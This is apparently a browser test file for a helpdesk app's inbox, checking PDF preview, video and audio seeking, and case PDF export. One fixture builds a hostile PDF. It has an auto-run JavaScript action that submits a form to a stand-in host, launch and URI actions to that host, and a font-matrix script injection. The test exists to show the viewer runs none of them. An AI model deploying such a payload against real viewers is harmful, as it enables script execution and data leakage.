import { readFile } from 'node:fs/promises';
import { expect, test } from 'vitest';
import { pdfText } from '../platform/documents/pdf.ts';
import { createPrinter } from '../platform/print/printer.ts';
import { film, recording } from '../testing/film.ts';
import { directionDrawn, openTab, wordsOf } from './browsing.ts';
import { sharedHouse } from './shared-house.ts';
import { leaveWindow } from './windows.ts';

const t = wordsOf('en');
const shared = sharedHouse();
const filled = (id: string, values: Readonly<Record<string, string | number>>): string => Object.entries(values).reduce((words, [name, value]) => words.replace(`{${name}}`, String(value)), t(id));

async function openLetter(subject: string, attachments: { filename: string; content: Buffer; contentType: string }[], window: { width?: number; height?: number } = {}) {
  const { browser, house, owner } = shared();
  await house.mail({ from: { name: 'Anna Nowak', address: 'anna@example.org' }, subject, text: 'See what is attached.', attachments });
  const [ticket] = (await house.app.tickets.list(owner.actor, { status: 'all', sort: 'created', limit: 1 })).items;
  const tab = await openTab(browser, house, { as: owner, path: `/inbox/active/${ticket!.id}`, ...window });
  await tab.page.getByRole('heading', { level: 1, name: subject }).waitFor();
  return { ...tab, ticket: ticket! };
}

const pdf = (filename: string, content: Buffer) => ({ filename, content, contentType: 'application/pdf' });
/** Wants to run a script, open an address and a program as soon as it is opened. */
const hostile = (): Buffer => Buffer.from(`%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\("got you"\\);this.submitForm\\("http://stranger.example/form"\\);)>>/AA<</WC<</S/URI/URI(http://stranger.example/close)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/AA<</O<</S/Launch/F(http://stranger.example/run)>>>>/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica/FontMatrix[1 0 0 1 0 (0\\);alert\\(1\\);//)]>>>>>>>>endobj
4 0 obj<</Length 44>>stream
BT /F1 20 Tf 20 100 Td (A calm page) Tj ET
endstream endobj
trailer<</Root 1 0 R>>
`);

test('a PDF is read in place, page by page, by keys too; one that wants to do something does nothing', async () => {
  const paper = await createPrinter().print('', () => ({
    title: 'Warranty', language: 'en', direction: 'ltr', footer: 'Warranty', cut: '', madeAt: new Date(0),
    blocks: [{ kind: 'title', text: 'Your kettle is under warranty' }, { kind: 'text', text: 'line\n'.repeat(120) }, { kind: 'text', text: 'The end.' }],
  }));
  if (!Buffer.isBuffer(paper)) throw new Error('it was not printed');
  const { page, trouble } = await openLetter('Papers', [pdf('warranty.pdf', paper), pdf('order.pdf', hostile()), pdf('torn.pdf', Buffer.from('%PDF-1.4 nothing of one'))]);
  const show = (name: string) => page.getByRole('button', { name: filled('tickets.preview.show', { name }) }).click();
  const dialog = page.getByRole('dialog');
  const close = async () => {
    await dialog.getByRole('button', { name: t('ui.close'), exact: true }).first().click();
    await dialog.waitFor({ state: 'detached' });
  };
  const at = (number: number, count: number) => dialog.getByRole('status').filter({ hasText: filled('tickets.preview.page_of', { page: number, count }) });

  await show('warranty.pdf');
  await dialog.getByText('Your kettle is under warranty').waitFor({ state: 'attached' });
  await at(1, 3).waitFor();
  const ink = () => dialog.locator('canvas').evaluate((node) => {
    const canvas = node as unknown as { width: number; height: number; getContext(kind: '2d'): { getImageData(...span: number[]): { data: Uint8ClampedArray } } };
    return canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data.filter((value, i) => i % 4 === 0 && value < 128).length;
  });
  expect(await ink(), 'it is drawn').toBeGreaterThan(500);
  await page.evaluate(`document.documentElement.dir = 'rtl'`);
  expect(await directionDrawn(dialog.locator('canvas')), 'what is drawn keeps its own direction on every page').toBe('ltr');
  await page.evaluate(`document.documentElement.dir = 'ltr'`);
  await dialog.getByRole('button', { name: t('tickets.preview.next_page') }).press('Enter');
  await at(2, 3).waitFor();
  await page.keyboard.press('PageDown');
  await at(3, 3).waitFor();
  await dialog.getByText('The end.').waitFor({ state: 'attached' });
  await close();

  await show('order.pdf');
  await dialog.getByText('A calm page').waitFor({ state: 'attached' });
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached' });
  await show('torn.pdf');
  await dialog.getByText(t('tickets.preview.pdf_failed')).waitFor();
  await close();
  expect(trouble, 'no script, no request to a stranger, no word of the content policy').toEqual([]);
  await leaveWindow(page);
});

/** The little of a player that is asked for here; tests have no DOM types. */
type Player = { currentTime: number; duration: number; addEventListener(what: 'seeked', heard: () => void, options: { once: true }): void };

test.each([1440, 390])('a film is sought in by parts, and Escape pressed in a player puts it away, %i wide', async (width) => {
  const attachments = [{ filename: 'leak.webm', content: film({ seconds: 60, bytesASecond: 50_000 }), contentType: 'video/webm' }, { filename: 'call.wav', content: recording(), contentType: 'audio/wav' }];
  const { page, trouble } = await openLetter(`A film, ${width} wide`, attachments, { width });
  const dialog = page.getByRole('dialog');
  const inside = page.frameLocator('iframe[src$="/player"]');
  const parts: string[] = [];
  page.on('response', (answer) => { if (answer.request().resourceType() === 'media') parts.push(`${answer.status()} ${answer.headers()['content-range'] ?? ''}`); });

  await page.getByRole('button', { name: filled('tickets.preview.play', { name: 'leak.webm' }) }).click();
  const video = inside.locator('video');
  await expect.poll(() => video.evaluate((node) => (node as unknown as Player).duration)).toBe(60);
  const { at, asked } = await video.evaluate((node) => new Promise<{ at: number; asked: number }>((resolve) => {
    const player = node as unknown as Player;
    player.addEventListener('seeked', () => resolve({ at: player.currentTime, asked: 55 }), { once: true });
    player.currentTime = 55;
  }));
  expect(at).toBe(asked);
  expect(parts.find((part) => /^206 bytes 2[5-9]\d{5}-/.test(part)), `what lies between was not fetched: ${parts.join(', ')}`).toBeDefined();
  const { x, width: wide } = (await video.boundingBox())!;
  expect([x >= 0, x + wide <= width], 'in sight').toEqual([true, true]);
  await video.press('Escape');
  await dialog.waitFor({ state: 'detached' });

  const play = page.getByRole('button', { name: filled('tickets.preview.play', { name: 'call.wav' }) });
  await play.press('Enter');
  const audio = inside.locator('audio');
  await expect.poll(() => audio.evaluate((node) => (node as unknown as Player).duration)).toBe(1);
  await audio.press('Escape');
  await dialog.waitFor({ state: 'detached' });
  await play.and(page.locator(':focus')).waitFor();
  expect(trouble).toEqual([]);
  await leaveWindow(page);
});

test('the case is taken along as one PDF from the menu of its ticket', async () => {
  const { page, trouble, ticket } = await openLetter('A case', []);
  const coming = page.waitForEvent('download');
  await page.getByRole('button', { name: t('tickets.menu') }).click();
  await page.getByRole('menuitem', { name: t('tickets.case_pdf'), exact: true }).click();
  const download = await coming;
  expect(download.suggestedFilename()).toBe(`${ticket.number}.pdf`);
  expect(pdfText(await readFile(await download.path()), 10_000)?.replaceAll(/\s+/gu, '')).toContain('Seewhatisattached.');
  expect(trouble).toEqual([]);
  await leaveWindow(page);
});
